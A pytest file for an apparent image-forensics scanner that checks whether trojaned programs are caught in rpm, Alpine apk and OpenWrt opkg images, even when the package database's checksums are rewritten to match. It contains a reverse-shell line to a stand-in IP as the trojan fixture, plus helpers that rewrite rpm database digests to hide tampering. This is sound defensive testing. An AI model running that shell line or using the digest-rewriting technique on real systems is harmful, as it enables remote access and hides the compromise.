"""Trust beyond Debian: rpm, Alpine apk and OpenWrt opkg images (issue 14).

Each image's package database is read as a claim (rpm's sqlite database with its per-file
SHA-256, apk's ``lib/apk/db/installed`` with ``Z:Q1`` SHA-1s, opkg's status and ``info/*.list``)
and ``--distro-packages`` verifies the files against genuine .rpm/.apk/.ipk packages built
here: the rpm by Debian's ``rpmbuild`` and installed into the image by ``rpm --root`` (its
real database), the .apk and .ipk by hand after their formats (gzip'ed tar segments with
``.PKGINFO``; OpenWrt's tar.gz of ``debian-binary``, ``control.tar.gz``, ``data.tar.gz``). The
maker trojans a program and rewrites the database's checksum to match: it must not pass.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import shutil
import sqlite3
import struct
import subprocess
import tarfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cranewatch.forensics import GenuineSource, ScanResult, scan_image
from cranewatch.forensics.genuine import read_package
from cranewatch.forensics.image import open_image
from cranewatch.forensics.packages import read_packages

TOOL = b"#!/bin/sh\n# cranetool: read the spreader's limit switches\nexec /usr/libexec/cranetool/poll \"$@\"\n"
CONF = b"port=502\nunit=1\n"
TROJAN = TOOL + b"bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &\n"


@pytest.fixture(autouse=True)
def _private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CRANEWATCH_CACHE", str(tmp_path / "cache"))


def _rules(result: ScanResult, path: str) -> dict[str, str]:
    return {f.rule: f.severity.name for f in result.findings if f.evidence and f.evidence[0].path == path}


def _check_trojan_caught(image: Path, genuine: Path, database: str) -> None:
    """Without genuine packages the content checks find the shell; with them the file differs
    from its genuine package and the rewritten database is itself a finding."""
    alone = scan_image(image, workers=1)
    assert "integrity.package-file-changed" not in _rules(alone, "usr/bin/cranetool")  # the claim was rewritten to match
    assert any(f.severity.name == "CRITICAL" for f in alone.findings if f.evidence[0].path == "usr/bin/cranetool")
    checked = scan_image(image, workers=1, genuine=GenuineSource((str(genuine),)))
    rules = _rules(checked, "usr/bin/cranetool")
    assert rules.get("integrity.differs-from-genuine") == "CRITICAL", rules
    rewritten = [f for f in checked.findings if f.rule == "integrity.package-records-rewritten"]
    assert [f.evidence[0].path for f in rewritten] == [database]
    assert rewritten[0].evidence[0].values["files"] == ["usr/bin/cranetool"]
    trust = checked.inventory.trust
    assert (trust.get("genuine"), trust.get("differs"), trust.get("unverified")) == (1, 1, None)  # the database is unowned


# --- rpm -------------------------------------------------------------------------------------------------


def _rpmbuild(work: Path) -> Path:
    if shutil.which("rpmbuild") is None or shutil.which("rpm") is None:
        pytest.skip("rpm/rpmbuild are not installed (Debian package rpm; scripts/install-deps.sh)")
    spec = work / "cranetool.spec"
    spec.write_text(
        "Name: cranetool\nVersion: 1.2\nRelease: 3\nSummary: spreader tool\nLicense: MIT\nBuildArch: noarch\n"
        "%description\nspreader tool\n%install\nmkdir -p %{buildroot}/usr/bin %{buildroot}/etc\n"
        f"cp {work}/src/cranetool %{{buildroot}}/usr/bin/cranetool\ncp {work}/src/cranetool.conf %{{buildroot}}/etc/\n"
        "%files\n%attr(755,root,root) /usr/bin/cranetool\n%config /etc/cranetool.conf\n"
    )
    (work / "src").mkdir()
    (work / "src/cranetool").write_bytes(TOOL)
    (work / "src/cranetool.conf").write_bytes(CONF)
    subprocess.run(["rpmbuild", "--quiet", "-bb", "--define", f"_topdir {work}/top", str(spec)], check=True, capture_output=True)
    return next((work / "top/RPMS/noarch").glob("cranetool-1.2-3.noarch.rpm"))


def _rpm_root(rpm: Path, root: Path) -> Path:
    run = subprocess.run(["rpm", "--root", str(root), "--dbpath", "/var/lib/rpm", "-i", "--nodeps", "--noscripts",
                          "--ignorearch", str(rpm)], capture_output=True, text=True, check=False)
    if run.returncode != 0:
        pytest.skip(f"rpm cannot install into a private root here: {run.stderr[-300:]}")
    (root / "etc/init.d").mkdir(parents=True, exist_ok=True)
    return root


def _rewrite_rpm_digest(root: Path, path: str, content: bytes) -> None:
    """What a lying maker does: the file's SHA-256 in the rpm header blob replaced in place."""
    db = root / "var/lib/rpm/rpmdb.sqlite"
    old = hashlib.sha256((root / path).read_bytes()).hexdigest().encode()
    new = hashlib.sha256(content).hexdigest().encode()
    (root / path).write_bytes(content)
    conn = sqlite3.connect(db)
    try:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        (blob,) = conn.execute("SELECT blob FROM Packages").fetchone()
        assert bytes(blob).count(old) == 1
        conn.execute("UPDATE Packages SET blob = ?", (bytes(blob).replace(old, new),))
        conn.commit()
    finally:
        conn.close()


def test_rpm_package_is_read_from_its_payload(tmp_path: Path) -> None:
    rpm = _rpmbuild(tmp_path)
    package = read_package(rpm)
    assert (package.manager, package.name, package.version, package.arch) == ("rpm", "cranetool", "1.2-3", "noarch")
    assert package.files == {"usr/bin/cranetool": hashlib.md5(TOOL).hexdigest(), "etc/cranetool.conf": hashlib.md5(CONF).hexdigest()}
    assert package.digests["usr/bin/cranetool"] == "sha256:" + hashlib.sha256(TOOL).hexdigest()
    assert package.conffiles == {"etc/cranetool.conf"}


def test_rpm_database_is_read_as_claims(tmp_path: Path) -> None:
    root = _rpm_root(_rpmbuild(tmp_path), tmp_path / "root")
    with open_image(root) as image:
        db = read_packages(image)
    assert [(p.manager, p.name, p.version) for p in db.packages] == [("rpm", "cranetool", "1.2-3")]
    assert db.owner == {"usr/bin/cranetool": "cranetool", "etc/cranetool.conf": "cranetool"}
    assert db.digests["usr/bin/cranetool"] == "sha256:" + hashlib.sha256(TOOL).hexdigest()  # checked against sha256sum's
    assert db.config == {"etc/cranetool.conf"}


def test_rpm_trojan_with_rewritten_digest_does_not_pass(tmp_path: Path) -> None:
    rpm = _rpmbuild(tmp_path)
    genuine = tmp_path / "pool"
    genuine.mkdir()
    shutil.copy(rpm, genuine)
    root = _rpm_root(rpm, tmp_path / "root")
    _rewrite_rpm_digest(root, "usr/bin/cranetool", TROJAN)
    _check_trojan_caught(root, genuine, "var/lib/rpm/rpmdb.sqlite")


def test_rpm_trojan_without_rewriting_is_caught_by_the_claim(tmp_path: Path) -> None:
    root = _rpm_root(_rpmbuild(tmp_path), tmp_path / "root")
    (root / "usr/bin/cranetool").write_bytes(TROJAN)
    (root / "etc/cranetool.conf").write_bytes(CONF + b"debug=1\n")  # an admin's edit of a %config file: quiet
    result = scan_image(root, workers=1)
    assert _rules(result, "usr/bin/cranetool")["integrity.package-file-changed"] == "HIGH"
    assert _rules(result, "etc/cranetool.conf") == {"integrity.conffile-changed": "INFO"}


# --- apk (Alpine) ------------------------------------------------------------------------------------


def _tar_gz(members: dict[str, bytes], *, end_marker: bool) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755 if name.startswith("usr/bin") else 0o644
            tar.addfile(info, io.BytesIO(data))
    data = raw.getvalue()
    if not end_marker:  # apk's control segment: its tar has no end-of-archive blocks
        data = data.rstrip(b"\x00")
        data += b"\x00" * (-len(data) % 512)
    return gzip.compress(data)


def _q1(data: bytes) -> str:
    return "Q1" + base64.b64encode(hashlib.sha1(data).digest()).decode()


def _apk_image(tmp_path: Path, tool: bytes) -> tuple[Path, Path]:
    pool = tmp_path / "pool"
    pool.mkdir()
    info = b"pkgname = cranetool\npkgver = 1.2-r3\narch = x86_64\nsize = 100\n"
    (pool / "cranetool-1.2-r3.apk").write_bytes(
        _tar_gz({".PKGINFO": info}, end_marker=False)
        + _tar_gz({"usr/bin/cranetool": TOOL, "etc/cranetool.conf": CONF}, end_marker=True)
    )
    root = tmp_path / "root"
    for d in ("usr/bin", "etc/init.d", "lib/apk/db"):
        (root / d).mkdir(parents=True)
    (root / "usr/bin/cranetool").write_bytes(tool)
    (root / "usr/bin/cranetool").chmod(0o755)
    (root / "etc/cranetool.conf").write_bytes(CONF)
    (root / "lib/apk/db/installed").write_text(
        "C:Q1abcdefghijklmnopqrstuvwxyzAB=\nP:cranetool\nV:1.2-r3\nA:x86_64\nT:spreader tool\n"
        f"F:usr/bin\nR:cranetool\na:0:0:755\nZ:{_q1(tool)}\nF:etc\nR:cranetool.conf\nZ:{_q1(CONF)}\n\n"
    )
    return root, pool


def test_apk_package_and_database(tmp_path: Path) -> None:
    root, pool = _apk_image(tmp_path, TOOL)
    package = read_package(pool / "cranetool-1.2-r3.apk")
    assert (package.manager, package.name, package.version) == ("apk", "cranetool", "1.2-r3")
    assert package.digests["usr/bin/cranetool"] == "sha1:" + hashlib.sha1(TOOL).hexdigest()
    with open_image(root) as image:
        db = read_packages(image)
    assert db.owner == {"usr/bin/cranetool": "cranetool", "etc/cranetool.conf": "cranetool"}
    assert db.digests["usr/bin/cranetool"] == "sha1:" + hashlib.sha1(TOOL).hexdigest()
    result = scan_image(root, workers=1, genuine=GenuineSource((str(pool),)))
    assert (result.inventory.trust.get("genuine"), result.inventory.trust.get("unverified")) == (2, None)
    assert not [f for f in result.findings if f.rule.startswith("integrity.")]


def test_apk_trojan_with_rewritten_checksum_does_not_pass(tmp_path: Path) -> None:
    root, pool = _apk_image(tmp_path, TROJAN)  # the database's Z: line is the trojan's SHA-1
    _check_trojan_caught(root, pool, "lib/apk/db/installed")


# --- ipk (OpenWrt opkg) ----------------------------------------------------------------------------------


def _ipk(pool: Path) -> Path:
    control = _tar_gz({"./control": b"Package: cranetool\nVersion: 1.2-3\nArchitecture: all\nDescription: t\n",
                       "./conffiles": b"/etc/cranetool.conf\n"}, end_marker=True)
    data = _tar_gz({"./usr/bin/cranetool": TOOL, "./etc/cranetool.conf": CONF}, end_marker=True)
    out = pool / "cranetool_1.2-3_all.ipk"
    with tarfile.open(out, "w:gz") as outer:
        for name, blob in (("./debian-binary", b"2.0\n"), ("./data.tar.gz", data), ("./control.tar.gz", control)):
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            outer.addfile(info, io.BytesIO(blob))
    return out


def test_ipk_trojan_differs_and_rewritten_conffile_checksum_is_a_finding(tmp_path: Path) -> None:
    pool = tmp_path / "pool"
    pool.mkdir()
    package = read_package(_ipk(pool))
    assert (package.manager, package.name, package.version) == ("opkg", "cranetool", "1.2-3")
    assert package.files["usr/bin/cranetool"] == hashlib.md5(TOOL).hexdigest()
    root = tmp_path / "root"
    for d in ("usr/bin", "etc/init.d", "usr/lib/opkg/info"):
        (root / d).mkdir(parents=True)
    (root / "usr/bin/cranetool").write_bytes(TROJAN)
    (root / "usr/bin/cranetool").chmod(0o755)
    tampered_conf = CONF + b"remote=198.51.100.4\n"
    (root / "etc/cranetool.conf").write_bytes(tampered_conf)
    (root / "usr/lib/opkg/status").write_text(
        "Package: cranetool\nVersion: 1.2-3\nStatus: install user installed\nArchitecture: all\n"
        f"Conffiles:\n /etc/cranetool.conf {hashlib.md5(tampered_conf).hexdigest()}\n\n"
    )
    (root / "usr/lib/opkg/info/cranetool.list").write_text("/usr/bin/cranetool\n/etc/cranetool.conf\n")
    result = scan_image(root, workers=1, genuine=GenuineSource((str(pool),)))
    assert _rules(result, "usr/bin/cranetool").get("integrity.differs-from-genuine") == "CRITICAL"
    rewritten = [f for f in result.findings if f.rule == "integrity.package-records-rewritten"]
    assert [(f.evidence[0].path, f.evidence[0].values["files"]) for f in rewritten] == [
        ("usr/lib/opkg/status", ["etc/cranetool.conf"])]


# --- a known-good image as the verification source (--reference) ------------------------------------------


def _crane_pc(root: Path, tool: bytes, conf: bytes) -> Path:
    for d in ("usr/bin", "etc/init.d", "opt/vendor"):
        (root / d).mkdir(parents=True)
    (root / "usr/bin/cranetool").write_bytes(tool)
    (root / "usr/bin/cranetool").chmod(0o755)
    (root / "etc/cranetool.conf").write_bytes(conf)
    (root / "opt/vendor/readme.txt").write_bytes(b"spreader controller, build 41\n")
    return root


def test_reference_image_verifies_identical_files_and_reports_changed_ones_with_both_hashes(tmp_path: Path) -> None:
    golden = _crane_pc(tmp_path / "golden", TOOL, CONF)
    image = _crane_pc(tmp_path / "image", TROJAN, CONF + b"debug=1\n")
    result = scan_image(image, reference=golden, workers=1)
    assert result.inventory.trust == {"reference": 1, "unowned": 2}  # readme.txt identical; tool and conf changed
    changed = {f.evidence[0].path: f for f in result.findings if f.rule == "integrity.differs-from-reference"}
    assert sorted(changed) == ["etc/cranetool.conf", "usr/bin/cranetool"]
    tool = changed["usr/bin/cranetool"]
    assert tool.severity.name == "HIGH"
    assert tool.evidence[0].values["sha256"] == hashlib.sha256(TROJAN).hexdigest()
    assert tool.evidence[0].values["reference_sha256"] == hashlib.sha256(TOOL).hexdigest()
    assert changed["etc/cranetool.conf"].severity.name == "MEDIUM"
    assert any("1 file(s) not verified by a genuine package are identical to it" in w for w in result.warnings)
    # the trojan's own content findings stay: they are new, the golden image has none
    assert any(f.rule != "integrity.differs-from-reference" and f.severity.name == "CRITICAL"
               for f in result.findings if f.evidence[0].path == "usr/bin/cranetool")


def test_same_image_as_reference_is_all_verified_and_quiet(tmp_path: Path) -> None:
    golden = _crane_pc(tmp_path / "golden", TOOL, CONF)
    result = scan_image(golden, reference=golden, workers=1)
    assert result.inventory.trust == {"reference": 3}
    assert not [f for f in result.findings if f.rule == "integrity.differs-from-reference"]


# --- rpm's Berkeley DB database (RHEL/CentOS 7 and 8) ------------------------------------------------------


def _bdb_from_sqlite(root: Path, page_size: int, copies: int = 1) -> Path:
    """The image's sqlite rpmdb rewritten as a Berkeley DB hash ``Packages`` by db_load (the
    header blobs keyed by their instance number, as rpm's BDB backend keeps them)."""
    load = shutil.which("db5.3_load") or shutil.which("db_load")
    if load is None:
        pytest.skip("db_load is not installed (Debian package db5.3-util)")
    rpmdb = root / "var/lib/rpm"
    conn = sqlite3.connect(rpmdb / "rpmdb.sqlite")
    try:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        rows = conn.execute("SELECT hnum, blob FROM Packages").fetchall()
    finally:
        conn.close()
    lines = ["VERSION=3", "format=bytevalue", "type=hash", f"db_pagesize={page_size}", "HEADER=END"]
    for copy in range(copies):
        for number, blob in rows:
            lines += [" " + (number + 1000 * copy).to_bytes(4, "little").hex(), " " + bytes(blob).hex()]
    lines.append("DATA=END")
    for item in rpmdb.iterdir():
        item.unlink()
    dump = root.parent / "dump.txt"
    dump.write_text("\n".join(lines) + "\n")
    subprocess.run([load, "-f", str(dump), str(rpmdb / "Packages")], check=True)
    return rpmdb / "Packages"


def _dumped_values(packages: Path) -> list[bytes]:
    """The data items as Berkeley DB's own db_dump prints them (hex, keys and data alternating)."""
    dump = shutil.which("db5.3_dump") or shutil.which("db_dump")
    assert dump is not None
    text = subprocess.run([dump, str(packages)], capture_output=True, text=True, check=True).stdout
    body = text.split("HEADER=END\n", 1)[1].split("DATA=END", 1)[0].split()
    return [bytes.fromhex(item) for item in body[1::2]]


@pytest.mark.parametrize("page_size", [4096, 512])  # 512: the 2 KB header spans overflow pages
def test_rpm_berkeley_db_is_read_like_db_dump_reads_it(tmp_path: Path, page_size: int) -> None:
    from cranewatch.forensics.packages import bdb_hash_values

    root = _rpm_root(_rpmbuild(tmp_path), tmp_path / "root")
    packages = _bdb_from_sqlite(root, page_size, copies=5)
    assert sorted(bdb_hash_values(packages.read_bytes())) == sorted(_dumped_values(packages))
    with open_image(root) as image:
        db = read_packages(image)
    assert {(p.name, p.version, p.path) for p in db.packages} == {("cranetool", "1.2-3", "var/lib/rpm/Packages")}
    assert db.digests["usr/bin/cranetool"] == "sha256:" + hashlib.sha256(TOOL).hexdigest()


def test_rpm_berkeley_db_trojan_with_rewritten_digest_does_not_pass(tmp_path: Path) -> None:
    rpm = _rpmbuild(tmp_path)
    genuine = tmp_path / "pool"
    genuine.mkdir()
    shutil.copy(rpm, genuine)
    root = _rpm_root(rpm, tmp_path / "root")
    _rewrite_rpm_digest(root, "usr/bin/cranetool", TROJAN)
    _bdb_from_sqlite(root, 4096)
    _check_trojan_caught(root, genuine, "var/lib/rpm/Packages")


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.binary(min_size=0, max_size=3000), st.sampled_from([512, 1024]))
def test_hostile_rpm_databases_and_headers_never_raise(noise: bytes, page_size: int) -> None:
    from cranewatch.forensics.packages import bdb_hash_values, rpm_files, rpm_header

    meta = bytearray(page_size)
    struct.pack_into("<II", meta, 12, 0x061561, 9)
    struct.pack_into("<I", meta, 20, page_size)
    body = bytearray((noise * (3 * page_size // max(len(noise), 1) + 1))[: 3 * page_size].ljust(3 * page_size, b"\x00"))
    body[25], body[page_size + 25], body[2 * page_size + 25] = 13, 2, 7  # hash, unsorted hash, overflow pages
    for value in bdb_hash_values(bytes(meta) + bytes(body)):
        rpm_files(rpm_header(value))
    rpm_files(rpm_header(noise))
